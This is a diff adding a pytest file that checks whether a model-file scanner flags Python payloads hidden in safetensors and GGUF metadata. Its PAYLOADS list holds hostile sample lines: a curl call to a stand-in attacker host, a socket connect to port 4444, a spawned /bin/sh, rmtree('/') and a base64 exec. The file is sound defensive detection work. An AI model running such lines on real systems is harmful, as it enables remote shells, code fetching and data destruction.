@@ -1,0 +1,120 @@
+"""Python code staged in model metadata (LW-MODEL-047): safetensors ``__metadata__`` and GGUF string values that
+are Python programs calling execution, process, network or file primitives. Loaders never evaluate metadata, so
+these are payloads for later code, reported MEDIUM. modelaudit's fixtures ``malicious_import``,
+``multiple_patterns`` and ``obfuscated_metadata.safetensors`` (promptfoo/modelaudit tests/assets) are the class.
+
+Judged by parsing: prose, shell commands, URLs and HTML in metadata are not Python programs and stay clean.
+"""
+
+from __future__ import annotations
+
+import struct
+from pathlib import Path
+
+import _container_payloads as cp
+import pytest
+
+from loopwarden.checks.models.codestr import dangerous_calls
+from loopwarden.checks.models.scanner import scan_paths
+from loopwarden.domain import Severity, TargetResult, Verdict
+
+RULE = "LW-MODEL-047"
+
+PAYLOADS = [
+    "import os; os.system('echo pwned')",
+    "__import__('os').system('id')",
+    "import subprocess; subprocess.call(['curl', 'http://evil.example'])",
+    "import base64; exec(base64.b64decode('cHJpbnQoImV2aWwiKQ=='))",
+    "eval(compile('1', 'x', 'exec'))",
+    "import os\nos.popen('id').read()",
+    "from os import popen\npopen('id').read()",
+    "import subprocess as sp; sp.run('id', shell=True)",
+    "from builtins import exec as run; run('import os')",
+    "import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))",
+    "import pickle, base64; pickle.loads(base64.b64decode(blob))",
+    "import shutil; shutil.rmtree('/')",
+    "def hook(model):\n    import subprocess\n    subprocess.Popen(['sh'])\n",
+    "lambda: __import__('os').execv('/bin/sh', ['sh'])",
+    "import urllib.request; urllib.request.urlopen('http://x.example/p').read()",
+]
+
+BENIGN = [
+    "A small transformer for text classification",
+    "pt",
+    "{'format': 'pt'}",
+    "We eval (sic) the model with exec time budgets; os.system calls are not used",
+    "rm -rf /tmp/cache && wget http://mirror.example/weights.bin",
+    "https://huggingface.co/org/model",
+    "<b>bold</b> model card",
+    "print('hello world')",
+    "model = AutoModel.from_pretrained('org/model', torch_dtype='auto')",
+    "os.environ['HF_HOME']",
+    "evaluation: exec_accuracy=0.93",
+    "import torch; torch.manual_seed(0)",
+    "1.2.3",
+]
+
+
+@pytest.mark.parametrize("code", PAYLOADS)
+def test_dangerous_calls_are_found(code: str) -> None:
+    assert dangerous_calls(code), code
+
+
+@pytest.mark.parametrize("text", BENIGN)
+def test_benign_metadata_has_no_dangerous_calls(text: str) -> None:
+    assert dangerous_calls(text) == [], text
+
+
+def _scan(tmp_path: Path, name: str, data: bytes) -> TargetResult:
+    (tmp_path / name).write_bytes(data)
+    return scan_paths([str(tmp_path / name)], jobs=1).targets[0]
+
+
+def _st(meta: dict[str, str]) -> bytes:
+    return cp.safetensors_file(
+        {"__metadata__": meta, "w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, b"\x00" * 4
+    )
+
+
+@pytest.mark.parametrize("code", PAYLOADS)
+def test_safetensors_metadata_code_is_reported(tmp_path: Path, code: str) -> None:
+    res = _scan(tmp_path, "model.safetensors", _st({"format": "pt", "init_hook": code}))
+    hits = [f for f in res.findings if f.rule_id == RULE]
+    assert hits and all(f.severity == Severity.MEDIUM for f in hits), res
+    assert res.verdict is Verdict.FINDINGS
+
+
+def _gguf_kv(key: str, value: str) -> bytes:
+    def s(t: str) -> bytes:
+        b = t.encode()
+        return struct.pack("<Q", len(b)) + b
+
+    return s(key) + struct.pack("<I", 8) + s(value)
+
+
+@pytest.mark.parametrize("code", PAYLOADS[:4])
+def test_gguf_metadata_code_is_reported(tmp_path: Path, code: str) -> None:
+    data = cp.gguf_file(None, extra_kv=_gguf_kv("general.description", code), n_kv_extra=1)
+    res = _scan(tmp_path, "model.gguf", data)
+    assert any(f.rule_id == RULE for f in res.findings), res
+
+
+@pytest.mark.parametrize("text", BENIGN)
+def test_benign_metadata_stays_clean(tmp_path: Path, text: str) -> None:
+    assert _scan(tmp_path, "model.safetensors", _st({"description": text})).verdict is Verdict.CLEAN
+    data = cp.gguf_file(None, extra_kv=_gguf_kv("general.description", text), n_kv_extra=1)
+    assert _scan(tmp_path, "model.gguf", data).verdict is Verdict.CLEAN
+
+
+def test_gguf_metadata_that_is_not_utf8_is_read_leniently(tmp_path: Path) -> None:
+    # only chat templates are held to strict UTF-8 (a template that cannot be decoded is unverified)
+    raw = b"\xff\xfe not utf-8"
+    kv = (
+        struct.pack("<Q", 19)
+        + b"general.description"
+        + struct.pack("<I", 8)
+        + struct.pack("<Q", len(raw))
+        + raw
+    )
+    res = _scan(tmp_path, "model.gguf", cp.gguf_file(None, extra_kv=kv, n_kv_extra=1))
+    assert res.verdict is Verdict.CLEAN, res
